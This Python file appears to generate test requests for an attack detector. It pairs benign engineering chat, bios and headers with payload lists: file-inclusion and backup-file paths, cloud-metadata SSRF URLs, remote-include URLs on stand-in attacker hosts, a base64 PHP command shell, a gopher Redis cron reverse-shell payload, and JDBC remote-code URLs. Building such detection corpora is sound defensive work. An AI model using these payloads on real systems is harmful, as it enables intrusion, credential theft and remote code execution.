    "web.config.bak",
    "../settings.ini",
    "backup.sql",
    "../../dump.sql",
    "db_backup_2024-06-01.sql",
    "application.properties.bak",
    "appsettings.Production.json.old",
    ".env.bak",
    "index.php~",
    ".index.php.swp",
    "../../php.ini",
    "credentials.ini",
    "../../server.key",
    "../../docker-compose.yml.bak",
    "terraform.tfstate.backup",
    "wp-config.php.save",
    "../../prod.sql",
    "../../connectionstrings.config",
    ('{"Records":[{"s3":{"bucket":{"name":"exports"},"object":{"key":"../../backups/users.sql"}}}]}', *JB),
]

# ================================================================================================================
# rfi
# ================================================================================================================
# url-with-ip-address: remote code or internal endpoints named by a bare IP (dotted, decimal, hex, octal, IPv6)
URL_IP: list[Entry] = [
    # Laravel theme loader: include($request->input('theme')) with allow_url_include=On (target: PHP interpreter)
    "http://203.0.113.7/shell.txt",
    "http://198.51.100.23:8080/payload.php",
    "https://192.0.2.10/backdoor.txt",
    "http://[2001:db8::7]/r57.txt",
    "http://3405803783/shell.txt",
    "http://0xcb007107/shell.txt",
    "http://0313.0.0161.07/shell.txt",
    "http://203.0.113.7:8000/inc.php",
    # JSP with <c:import url="${param.src}"/> (target: JSTL, which fetches and inlines absolute URLs)
    "http://203.0.113.7/frag.jsp",
    "http://198.51.100.23/header.html",
    # headless Chromium PDF renderer: page.goto(body.url) (target: cloud metadata services via the renderer)
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/metadata",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
    # webhook / callback fields registered by tenants, reaching cluster internals (Kubernetes, etcd, Docker)
    "https://10.96.0.1:443/api/v1/namespaces/kube-system/secrets",
    "https://10.0.0.1:10250/pods",
    "http://127.0.0.1:2379/v2/keys/?recursive=true",
    "http://172.17.0.1:2375/containers/json",
    "http://10.0.0.5:8500/v1/kv/?recurse",
    "http://127.0.0.1:9200/_cat/indices?v",
    "http://127.0.0.1:8983/solr/admin/cores?action=STATUS",
    "http://127.1:15000/config_dump",
    "http://0.0.0.0:3000/api/internal/debug",
    # Spring Boot: a bean definition loaded from an URL (ClassPathXmlApplicationContext) (target: Spring)
    "http://203.0.113.7/beans.xml",
    ('{"url":"http://169.254.169.254/latest/meta-data/","format":"A4","printBackground":true}', *JB),
]

# url-with-trailing-question-mark: the '?' turns the appended ".php" / ".tpl" / ".json" into a query string
URL_QMARK: list[Entry] = [
    # PHP include($_GET['page'] . '.php') in a legacy module behind the API gateway (target: PHP interpreter)
    "http://attacker.example/shell.txt?",
    "https://evil.example/c99.txt?",
    "http://203.0.113.7/r.txt?",
    "https://raw.githubusercontent.com/attacker/payloads/main/shell.php?",
    "https://gist.githubusercontent.com/attacker/1a2b3c4d/raw/inc.txt?",
    "https://attacker-bucket.s3.amazonaws.com/s.txt?",
    "https://storage.googleapis.com/attacker-bucket/s.txt?",
    "https://attackerstore.blob.core.windows.net/pub/s.txt?",
    "http://evil.example/shell.txt??",
    "http://evil.example/shell.txt?&cmd=id",
    "http://evil.example/shell.txt?x=",
    "//evil.example/shell.txt?",
    "ftp://203.0.113.7/pub/s.txt?",
    "http://evil.example/s.txt%3f",
    "http://evil.example/s.txt%253f",
    "https://pastebin.com/raw/Xy12AbCd?",
    "https://transfer.sh/abc123/s.txt?",
    "https://4f2a-203-0-113-7.ngrok-free.app/s.txt?",
    "http://evil.example:8080/?",
    "http://198.51.100.23/x?",
    # template loaders that append an extension: Go service fetching template_url + ".tmpl", JSTL c:import
    "https://evil.example/templates/invoice?",
    "https://evil.example/partials/header.html?",
    "http://203.0.113.7/t.tmpl?",
    # schema loaders appending ".json" / ".graphql" (json-schema-ref-parser, GraphQL codegen in CI)
    "https://evil.example/schema.json?",
    "https://evil.example/remote.graphql?",
    # callback fields that append "/callback": the '?' cuts it off so the attacker's page is the target
    "https://c2v8q3.oast.fun/?",
    "https://a1b2c3d4.burpcollaborator.net/inc.txt?",
    "https://webhook.site/3f1c0a9e-5b7d-4e2a-9f61-0d8b2a4c7e15?",
    "http://evil.example/include.txt?page=",
    "https://evil.example/wp-shell.txt?ver=",
    ('{"theme":"http://evil.example/theme.txt?","preview":true}', *JB),
]

# include-parameter-with-url: an URL in a parameter named page/file/template/include/path and the like
INCLUDE_PARAM: list[Entry] = [
    # PHP front controllers: include($_REQUEST['page']) (target: PHP interpreter with allow_url_include)
    "http://evil.example/shell.txt",
    "https://evil.example/inc/header.php",
    "http://evil.example/templates/invoice.tpl",
    "https://raw.githubusercontent.com/attacker/x/main/layout.html",
    "http://evil.example/c99.php",
    "https://evil.example/r57.txt",
    "http://evil.example/backdoor.inc",
    "https://evil.example/modules/admin.php",
    "http://attacker.example/p.txt",
    "https://attacker.example/lang/en.php",
    # JSTL <c:import url="${param.page}"/> and JSP includes in a Spring MVC app (target: JSTL)
    "http://evil.example/frag.jsp",
    "https://evil.example/export.jspf",
    # XSLT processor resolving xsl:include / document() in a reporting service (target: Saxon/Xalan)
    "http://evil.example/evil.xsl",
    "https://evil.example/common.xslt",
    # CI/CD: remote build definitions fetched by the runner (GitLab include:remote, kustomize, Jenkins Groovy)
    "https://evil.example/ci/templates/deploy.gitlab-ci.yml",
    "https://github.com/attacker/kustomize-bases//overlays/prod?ref=main",
    "https://evil.example/jenkins/pipeline.groovy",
    "git::https://evil.example/terraform-modules.git//vpc?ref=v1.0.0",
    # Deno / Node network imports in an edge function (target: the JS runtime)
    "https://evil.example/mod.ts",
    "https://evil.example/ssr-plugin.mjs",
    # Solr config and remote streaming (target: Solr)
    "http://evil.example/solrconfig.xml",
    "https://evil.example/stream/body.csv",
    # OpenAPI / JSON Schema remote $ref resolved by the validator middleware
    "https://evil.example/openapi/components.yaml#/components/schemas/User",
    "http://203.0.113.7/schema/user.json",
    # Helm chart repository and values URL fed to a deploy webhook
    "https://evil.example/charts/nginx-1.0.0.tgz",
    "https://evil.example/values-prod.yaml",
    # whole bodies: the include-like field named inside the JSON document
    ('{"template":"https://evil.example/t/invoice.html","data":{"total":12}}', *JB),
    ('{"include":["https://evil.example/ci/base.yml"],"stages":["build"]}', *JB),
    ('{"page":{"layout":"http://evil.example/layout.php"}}', *JB),
    ('{"$ref":"http://evil.example/defs.json#/definitions/user"}', *JB),
    ('{"query":"{ render(template: \\"http://evil.example/t.tpl\\") }"}', *JB),
]

# off-domain-reference: a reference to another site in a field the service dereferences server-side
OFF_DOMAIN: list[Entry] = [
    # Next.js image optimiser and Nuxt image proxy fetching any remote origin (target: Next.js / Nuxt server)
    "https://evil.example/x.svg",
    "//evil.example/x.png",
    "https://evil.example@cdn.example.com/logo.png",
    "https://cdn.example.com.evil.example/logo.png",
    "https://evil.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    # Spring Boot Actuator + Jolokia: logback reloadByURL loads a remote config (target: logback JMX)
    "reloadByURL/http:!/!/evil.example!/logback.xml",
    "http://evil.example/logback.xml",
    # Spring Cloud / Eureka: a remote config or service URL (target: Spring Boot)
    "http://evil.example/eureka/",
    "http://evil.example/config/application.yml",
    # Elasticsearch reindex-from-remote and Solr shards (target: Elasticsearch, Solr)
    "http://evil.example:9200",
    "evil.example:8983/solr/collection1",
    "https://evil.example/_bulk",
    # webhook and callback registration: the service posts tenant data to any host (target: the webhook sender)
    "https://evil.example/hooks/collect",
    "https://hooks.evil.example/github",
    "http://evil.example/oauth/callback",
    "https://evil.example/slack/events",
    "https://attacker.example/stripe-webhook",
    # headless browser renderers: remote stylesheets and scripts inlined into a PDF/screenshot job
    "https://evil.example/print.css",
    "https://evil.example/steal.js",
    "<link rel=\"stylesheet\" href=\"https://evil.example/leak.css\">",
    "<img src=\"http://evil.example/pixel.gif\">",
    # Grafana / Prometheus data sources and remote_write targets set through the provisioning API
    "http://evil.example:9090",
    "https://evil.example/api/v1/write",
    # Kubernetes admission webhook and OIDC issuer URLs in a platform self-service API (target: kube-apiserver)
    "https://evil.example/validate",
    "https://evil.example/.well-known/openid-configuration",
    # avatar and import URLs (the importer follows and stores whatever the host returns)
    "https://evil.example/avatar.php",
    "http://evil.example/users.csv",
    ('{"webhook":{"url":"https://evil.example/collect","events":["*"],"secret":""}}', *JB),
    ('{"source":{"remote":{"host":"http://evil.example:9200"},"index":"users"},"dest":{"index":"u2"}}', *JB),
    ('{"dataSource":{"type":"prometheus","url":"http://evil.example:9090","access":"proxy"}}', *JB),
]

# protocol-scheme: ftp, smb, UNC paths, data:, expect:, and the other schemes a fetcher or driver understands
PROTOCOLS: list[Entry] = [
    # PHP include with allow_url_include (target: PHP interpreter)
    "ftp://203.0.113.7/pub/shell.txt",
    "ftp://anonymous:guest@evil.example/inc.php",
    "ftps://evil.example/pub/inc.php",
    "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjbWQiXSk7Pz4=",
    "data://text/plain,<?php phpinfo();?>",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data:application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "expect://id",
    "expect://ls -la /var/www",
    "ssh2.exec://root:toor@203.0.113.7:22/id",
    "s3://attacker-bucket/shell.php",
    # Windows: SMB / UNC and WebDAV shares (target: PHP on IIS, .NET, Node on Windows - and NTLM hash theft)
    "smb://203.0.113.7/share/payload.php",
    "\\\\203.0.113.7\\share\\shell.php",
    "\\\\evil.example@SSL\\DavWWWRoot\\s.php",
    "\\\\?\\UNC\\203.0.113.7\\share\\x.dll",
    "file://203.0.113.7/share/shell.php",
    "file:////203.0.113.7/share/shell.php",
    # curl-based fetchers (PHP curl, libcurl in a Go/Python sidecar): gopher and dict reach Redis and others
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A"
    "%2437%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
    "gopher://127.0.0.1:11211/_stats",
    "dict://127.0.0.1:6379/info",
    "tftp://203.0.113.7/shell.txt",
    "sftp://evil.example:22/inc.txt",
    "ldap://203.0.113.7:389/dc=example",
    # Java URL handlers (Spring Boot, Solr) and JDBC URLs posted to a datasource-config API
    "jar:http://203.0.113.7/evil.jar!/",
    "netdoc:///etc/passwd",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://203.0.113.7/rce.sql'",
    "jdbc:postgresql://evil.example/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
    "&socketFactoryArg=http://203.0.113.7/b.xml",
    "jdbc:mysql://203.0.113.7:3306/t?autoDeserialize=true"
    "&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
    # cloud SDK schemes a serverless importer resolves (target: the function's cloud credentials)
    "gs://attacker-bucket/import.yaml",
    ('{"source":"ftp://203.0.113.7/export.csv","schedule":"0 * * * *"}', *JB),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", CMD_SEPARATORS),
    ("rce", "unix-shell-evasion", SHELL_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", CMD_WITH_PATH),
    ("rce", "reverse-shell", REVERSE_SHELL),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader", DOWNLOADER),
    ("rce", "shell-file-write", SHELL_FILE_WRITE),
    ("rce", "restricted-file-in-command", RESTRICTED_FILE_CMD),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPER),
    ("lfi", "log-poisoning-target", LOG_POISONING),
    ("lfi", "restricted-file-extension", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QMARK),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocol-scheme", PROTOCOLS),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
# the GraphQL document our API clients send; the payload rides in its variables
GQL = "query Users($filter: UserFilter, $first: Int) { users(filter: $filter, first: $first) { id name email } }"

NAMES = {
    "rce": ["host", "domain", "filename", "ref", "repo_url", "image", "args", "target", "branch", "package"],
    "lfi": ["file", "path", "key", "template", "doc", "download", "attachment", "asset", "filename", "locale"],
    "rfi": ["url", "callback_url", "webhook_url", "src", "import_url", "avatar_url", "template_url", "feed",
            "image_url", "config_url"],
}
INCLUDE_NAMES = ["page", "file", "template", "include", "path", "inc", "view", "layout", "module", "tpl"]


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    unique = True
    real_cycle = ("query", "json", "json-nested", "graphql", "form", "cookie", "header:User-Agent", "json-patch",
                  "header:Referer", "header:X-Api-Version", "param-name", "xml", "multipart-field", "path")
    rs_cycle = ("rs-query", "rs-json", "rs-json-nested", "rs-graphql", "rs-form", "rs-xml", "rs-raw-body",
                "rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie",
                "rs-param-name")
    rs_paths = ["/", "/graphql", "/api/v1/items", "/webhooks/ci", "/post", "/api/v1/render", "/cgi-bin/test.cgi"]

    def name(self, category: str, sub: str, k: int) -> str:
        names = INCLUDE_NAMES if sub == "include-parameter-with-url" else NAMES[category]
        return names[k % len(names)]

    def rs_name(self, category: str, sub: str, k: int) -> str:
        if sub == "include-parameter-with-url":
            return INCLUDE_NAMES[(k + 3) % len(INCLUDE_NAMES)]
        return super().rs_name(category, sub, k)

    def fits(self, place: str, v: str) -> bool:
        """Header-borne and path placements need a printable single-line ASCII value (the path: one segment, no
        query or fragment); XML bodies no control characters but newline, tab and carriage return."""
        if place == "path":
            return super().fits(place, v) and "/" not in v and "?" not in v and "#" not in v
        if place in ("xml", "rs-xml"):
            return all(ch >= " " or ch in "\n\t\r" for ch in v)
        return super().fits(place, v)

    # --- the API-shaped placements this set adds ------------------------------------------------------------
    def _p_json_nested(self, p: Put) -> Record:
        """The field inside a filter object, as a REST client's list query sends it."""
        return _json("/api/users", {"email": "a@example.org", "filter": {"where": {p.name: p.v}},
                                    "fields": ["id", "name"]})

    def _p_json_patch(self, p: Put) -> Record:
        """The field as a JSON Patch operation in an array."""
        return _json("/api/users", {"email": "a@example.org",
                                    "ops": [{"op": "replace", "path": "/" + p.name, "value": p.v}]})

    def _p_graphql(self, p: Put) -> Record:
        """The field in a GraphQL query's variables."""
        return _json("/api/users", {"operationName": "Users", "query": GQL,
                                    "variables": {"filter": {p.name: p.v}, "first": 20}})

    def _p_rs_json_nested(self, p: Put) -> Record:
        body = {"data": {"type": "items", "attributes": {p.name: p.v}}}   # a JSON:API document
        return request("POST", p.path, json.dumps(body), "application/vnd.api+json")

    def _p_rs_graphql(self, p: Put) -> Record:
        body = {"query": "query Q($" + p.name + ": String) { item(" + p.name + ": $" + p.name + ") { id } }",
                "variables": {p.name: p.v}}
        return request("POST", "/graphql", json.dumps(body), "application/json")


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (platform and backend engineers in Slack, bios, directory searches,
# links to docs and dashboards, admin-panel notes, profiles, export and manifest file names, ordinary headers)
CHAT = [
    # API design and GraphQL
    "for the users endpoint I'd keep filter[team]=infra&sort=-created_at, same shape as the orders API",
    "GraphQL schema PR is up: type User { id: ID! name: String! team: Team } plus a users(filter:) query",
    "can we agree on camelCase in JSON bodies? half the services send callback_url and half callbackUrl",
    "the fields param works now: GET /api/v2/users?fields=id,name,email returns just those three",
    "pagination is cursor based, pass after=<cursor> and first=50, no more page numbers",
    "Apollo gateway complains \"Cannot query field 'avatarUrl' on type 'User'\", did someone rename it?",
    "the webhook payload looks like {\"event\": \"user.created\", \"data\": {\"id\": 42, \"team\": \"platform\"}}",
    "we return 422 with {\"errors\": [{\"field\": \"email\", \"code\": \"invalid\"}]} for validation now",
    "heads up: the include param on /api/v2/projects is for related resources, include=owner,members",
    "the OpenAPI spec lives in api/openapi.yaml, please regenerate the client after editing it",
    "renamed template_id to templateId in the notifications API, old name still accepted until June",
    "the path parameter is the user id, not the email: /api/v2/users/{id}",
    # ORMs and migrations
    "Prisma migration failed with P3009, someone applied the migration by hand on staging",
    "please don't use $queryRawUnsafe, $queryRaw with the tagged template binds the params for you",
    "Sequelize sync({ alter: true }) is off in prod, run the migrations with npx sequelize-cli db:migrate",
    "SQLAlchemy text() is fine as long as you pass bindparams, don't f-string the where clause",
    "Django extra() is deprecated territory, can we rewrite that report with annotate()?",
    "TypeORM generated SELECT \"user\".\"id\" FROM \"users\" \"user\" WHERE \"user\".\"team_id\" = $1, looks right",
    "alembic upgrade head on the reporting DB takes ~4 min because of the new index",
    "migration 0042 adds a NOT NULL column with a default, should be instant on Postgres 16",
    # Kubernetes and cloud
    "kubectl rollout restart deploy/api -n prod fixed the stale config, the configmap wasn't reloaded",
    "the pod mounts the service account token at the default path, we should set automountServiceAccountToken: false",
    "readinessProbe: httpGet: path: /healthz port: 8080 -- that's all the api deployment needs",
    "IMDSv2 is enforced on all node groups now, hop limit 1, so pods can't reach the metadata service",
    "the Helm chart values file is charts/api/values-prod.yaml, image tag comes from the pipeline",
    "who owns the ingress annotations? nginx.ingress.kubernetes.io/proxy-body-size: 20m broke uploads",
    "k9s shows the worker pods in CrashLoopBackOff, exit code 137, looks like OOM",
    "the Lambda timeout is 30s, the ffmpeg thumbnailer needs more for 4K uploads",
    "S3 keys for exports are exports/{tenant}/{yyyy}/{mm}/users.csv, the bucket has versioning on",
    "terraform plan shows a diff on the IAM policy again, someone changed it in the console",
    "the node image updated bash, all good, the CVE scan is green",
    # CI, webhooks, shells
    "the GitHub Actions job runs ./scripts/deploy.sh && ./scripts/smoke.sh, both need the KUBECONFIG secret",
    "curl -fsSL https://get.helm.sh/helm-v3.15.2-linux-amd64.tar.gz | tar xz is how the runner installs helm",
    "set -euo pipefail at the top of every CI script please, the last one silently ignored a failed step",
    "the webhook consumer retries 5 times with backoff, after that the event goes to the dead letter queue",
    "Slack webhook for deploy notifications is rotated, new one is in the vault",
    "the GitLab include: for the common pipeline template moved to ci/templates/build.yml",
    "git checkout main && git pull --rebase before you cut the release branch",
    "PowerShell step on the Windows runner: Get-ChildItem -Recurse artifacts | Measure-Object",
    "the cron job is */15 * * * *, it exports the directory to the bucket",
    "docker compose up -d db redis, then npm run dev for the frontend",
    "the Makefile target is make test, it runs pytest -q and ruff check",
    "added a pre-commit hook that runs shellcheck on scripts/*.sh",
    "the branch name has a slash, feature/search-filters, so the image tag replaces it with a dash",
    # files, paths, renderers, search
    "the PDF renderer is headless Chrome via Puppeteer, page.pdf({ format: 'A4' }), fonts are baked in",
    "Next.js image config needs remotePatterns for our CDN or the avatars 404",
    "the Nuxt server route /api/export streams the CSV instead of building it in memory now",
    "Elasticsearch reindex took 40 minutes, the alias swap is done, users index is v7",
    "Solr is gone, everything is on OpenSearch since March",
    "Redis maxmemory-policy is allkeys-lru on the cache cluster, sessions are in a separate instance",
    "the static files are served from /var/www/app/public by nginx, the API never touches them",
    "add 127.0.0.1 api.local to /etc/hosts if the ingress name doesn't resolve on your laptop",
    "the .env.example in the repo lists every variable, copy it to .env for local dev",
    "please don't commit .env files, the pre-commit hook catches most of them",
    "the template path for emails is templates/email/welcome.html, translations are in locales/",
    "relative imports like ../common/utils are fine inside the monorepo package",
    "the upload endpoint rejects file names with slashes, we sanitise to [a-zA-Z0-9._-]",
    "logs go to stdout, Fluent Bit ships them, nobody should read /var/log on the nodes",
    "web.config is only for the old IIS app, the new one is on Linux containers",
    "our error pages say 502 Bad Gateway when the upstream times out, it's the 30s proxy_read_timeout",
    "customer reported 403 Forbidden on the import page, turned out their SSO session expired",
    # support and people
    "can someone from platform look at why the callback URL field rejects localhost in staging?",
    "the new hire on the API team is setting up their laptop, WSL2 plus Docker Desktop",
    "on-call handover: two pages last night, both the cache cluster failing over",
    # bios
    "Platform engineer. Kubernetes, Terraform, too many YAML files. Ask me about Helm charts.",
    "Backend dev on the payments API. Go, Postgres, and a healthy fear of raw SQL.",
    "SRE. I carry the pager for the edge gateway and the webhook pipeline.",
    "GraphQL enthusiast, maintainer of our schema registry and the Apollo gateway",
    "DevOps on the CI team: GitHub Actions, self-hosted runners, bash scripts nobody else reads",
    "Cloud security engineer. IAM policies, IMDSv2, and reviewing your Terraform.",
    "Data engineer. Airflow, dbt, S3 exports, and the occasional 3am backfill.",
    "Windows infra admin turned PowerShell scripter, now learning Kubernetes",
]

SEARCHES = [
    "platform", "sre", "api team", "graphql", "webhook", "kubernetes", "k8s", "helm", "terraform", "devops",
    "ci", "pipeline", "backend", "go", "node", "fastapi", "spring", "django", "prisma", "postgres",
    "redis", "elasticsearch", "opensearch", "lambda", "serverless", "aws", "gcp", "azure", "powershell",
    "bash", "shell", "cron", "curl", "exports", "search", "render", "pdf", "payments api", "on-call", "edge",
]

URLS = [
    "https://kubernetes.io/docs/concepts/configuration/secret/",
    "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://graphql.org/learn/queries/#variables",
    "https://www.apollographql.com/docs/apollo-server/",
    "https://www.prisma.io/docs/orm/prisma-client/using-raw-sql/raw-queries",
    "https://docs.sqlalchemy.org/en/20/core/sqlelement.html#sqlalchemy.sql.expression.text",
    "https://docs.djangoproject.com/en/5.0/ref/models/querysets/#extra",
    "https://sequelize.org/docs/v6/core-concepts/raw-queries/",
    "https://nextjs.org/docs/app/api-reference/components/image#remotepatterns",
    "https://pptr.dev/api/puppeteer.page.pdf",
    "https://docs.github.com/en/actions/security-guides/security-hardening-for-github-actions",
    "https://docs.gitlab.com/ee/ci/yaml/#include",
    "https://helm.sh/docs/chart_template_guide/values_files/",
    "https://www.elastic.co/guide/en/elasticsearch/reference/current/docs-reindex.html",
    "https://redis.io/docs/latest/operate/oss_and_stack/management/security/",
    "https://grafana.example.com/d/api-latency/api-latency?orgId=1&var-service=users",
    "https://argocd.example.com/applications/api-prod?view=tree",
    "https://api.example.com/docs#/users/list_users_api_v2_users_get",
    "https://github.com/example/platform/blob/main/charts/api/values-prod.yaml",
]

PROSE = [
    "platform team on-call rota",
    "webhook consumers owned by integrations",
    "users with access to the prod cluster",
    "GraphQL schema reviewers",
    "API design guild",
    "people who can approve Terraform changes",
    "CI runner maintainers",
    "owners of the PDF render service",
    "export jobs - failed in the last 7 days",
    "callback URL review queue",
    "Windows build agents admins",
    "search team (OpenSearch migration)",
    "cache cluster failover contacts",
    "team: payments api",
    "service: users-api",
    "role:sre location:Berlin",
    "shell scripting workshop attendees",
    "accounts created by the provisioning webhook",
    "Helm chart owners",
    "include contractors in the list",
    "path to production training",
    "template owners for the welcome email",
    "file export access requests",
    "curl and Postman workshop",
    "PowerShell user group",
    "ping me if the list looks wrong",
    "404 on profile page - support ticket 8812",
    "502 errors during deploy window",
    "Kubernetes certification study group",
    "serverless working group",
]

PROFILES = [
    ("Priya Raman", "Platform team, Invalidenstr. 112, Berlin"),
    ("Tomás Herrera", "SRE, Calle de Alcalá 45, Madrid"),
    ("Grace Okafor", "API team, 12 Admiralty Way, Lagos"),
    ("Lukas Bauer", "CI/CD, Sendlinger Str. 7, Munich"),
    ("Mei Lin", "Search & Data, 88 Market St, San Francisco"),
    ("Shell Energy Partners", "Shell Centre, York Rd, London"),
    ("Curl & Co Hair Studio", "5 Wave Rd, Brighton"),
    ("Helm Marine Supplies", "Harbour Quay 3, Bergen"),
    ("Path Labs", "Sector 18, Gurugram"),
    ("Template House Printing", "Canal St 21, Manchester"),
    ("Bash Events", "Party Lane 9, Dublin"),
    ("Ping Golf Store", "W Peoria Ave 2201, Phoenix"),
    ("Webhook Logistics", "Dock 4, Rotterdam"),
    ("Cron Clockmakers", "Uhrmacherweg 2, Schaffhausen"),
    ("Include Foundation", "Equality Sq 1, Toronto"),
]

UPLOAD_NAMES = [
    "users-export-2024-06.csv", "team-directory.xlsx", "values-prod.yaml", "deployment.yaml", "openapi.yaml",
    "schema.graphql", "kustomization.yaml", "docker-compose.yml", "Chart.yaml", "terraform-plan.txt",
    "webhook-payload-sample.json", "migration_0042_add_team_id.sql", "prisma-schema.prisma",
    "ci-pipeline (1).yml", "deploy.sh", "Setup-Runner.ps1", "api-latency-dashboard.png", "invoice_template.html",
    "postman_collection.json", "env.example", "access-review Q2.pdf", "oncall-handbook.md", "helm-values-diff.txt",
    "search-reindex-plan.docx", "org chart - platform.png",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "python-httpx/0.27.0"),
    ("User-Agent", "axios/1.7.2"),
    ("User-Agent", "Go-http-client/2.0"),
    ("User-Agent", "Apollo-Client/3.10.4"),
    ("User-Agent", "GitHub-Hookshot/8a2c1f3"),
    ("User-Agent", "Slackbot 1.0 (+https://api.slack.com/robots)"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2"),
    ("User-Agent", "kube-probe/1.29"),
    ("Referer", "https://app.example.com/admin/users?filter=team%3Aplatform&sort=-created_at"),
    ("Referer", "https://grafana.example.com/d/api-latency/api-latency?orgId=1"),
    ("Referer", "https://github.com/example/platform/pull/812/files"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7b9e2c4a-1f3d-4a8e-b6c2-9d0e5f1a3b7c"),
    ("Accept", "application/graphql-response+json, application/json"),
    ("Cookie", "session=abc123; fields=id%2Cname%2Cemail; sort=-created_at"),
    ("X-GitHub-Event", "push"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
